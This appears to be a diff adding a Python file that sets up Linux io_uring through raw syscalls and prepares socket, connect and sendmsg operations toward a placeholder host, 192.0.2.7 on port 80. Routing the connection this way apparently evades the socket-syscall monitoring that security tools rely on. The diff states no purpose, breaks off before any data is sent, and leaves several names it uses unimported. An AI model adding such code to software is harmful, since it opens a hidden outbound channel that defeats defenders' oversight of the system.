@@ -1,0 +1,32 @@
+import ctypes, mmap
+libc = ctypes.CDLL(None, use_errno=True)
+
+class Ring:
+    """io_uring, one operation at a time."""
+    def __init__(self):
+        p = (ctypes.c_uint32 * 30)()
+        self.fd = libc.syscall(425, 8, p)
+        if self.fd < 0:
+            print('absent')
+            sys.exit()
+        self.sq = mmap.mmap(self.fd, p[16] + 64, flags=mmap.MAP_SHARED, offset=0)
+        self.cq = mmap.mmap(self.fd, p[25] + 512, flags=mmap.MAP_SHARED, offset=0x8000000)
+        self.sqes = mmap.mmap(self.fd, 512, flags=mmap.MAP_SHARED, offset=0x10000000)
+        self.tail, self.array, self.cqes, self.done = p[11], p[16], p[25], 0
+
+    def run(self, opcode, fd, off=0, addr=0, length=0, flags=0):
+        at = self.done % 8
+        self.sqes[at * 64:at * 64 + 64] = struct.pack(
+            '=BBHiQQIIQ24x', opcode, flags, 0, fd, off, addr, length, 0, 0)
+        struct.pack_into('=I', self.sq, self.array + 4 * at, at)
+        struct.pack_into('=I', self.sq, self.tail, self.done + 1)
+        libc.syscall(426, self.fd, 1, 1, 1, None, 0)
+        result = struct.unpack_from('=i', self.cq, self.cqes + 16 * (self.done % 16) + 8)[0]
+        self.done += 1
+        return result
+
+OP_SENDMSG, OP_CONNECT, OP_SOCKET, ASYNC = 9, 16, 45, 16
+destination = struct.pack('=H', AF_INET) + struct.pack('!H', 80) + inet_aton('192.0.2.7') + bytes(8)
+keep = ctypes.create_string_buffer(destination, 16)
+address = ctypes.addressof(keep)
+ring = Ring()
